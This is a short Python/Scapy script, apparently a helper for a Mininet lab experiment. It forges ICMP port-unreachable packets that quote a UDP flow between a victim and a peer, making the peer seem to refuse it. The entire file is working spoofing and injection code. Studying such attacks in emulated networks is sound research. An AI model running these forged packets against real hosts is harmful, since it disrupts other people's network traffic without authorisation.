"""Runs inside a Mininet host (the attacker): sends one forged ICMP destination unreachable (port unreachable)
from this host's own address to VICTIM, quoting a UDP packet VICTIM:SPORT -> PEER:DPORT, as if PEER had refused it.

usage: forge_icmp.py SELF VICTIM PEER SPORT DPORT
"""
import sys

from scapy.all import ICMP, IP, UDP, conf, send

conf.verb = 0
me, victim, peer, sport, dport = sys.argv[1], sys.argv[2], sys.argv[3], int(sys.argv[4]), int(sys.argv[5])
quoted = IP(src=victim, dst=peer, id=1) / UDP(sport=sport, dport=dport) / b"hello"
send(IP(src=me, dst=victim) / ICMP(type=3, code=3) / bytes(quoted), count=3, inter=0.2)
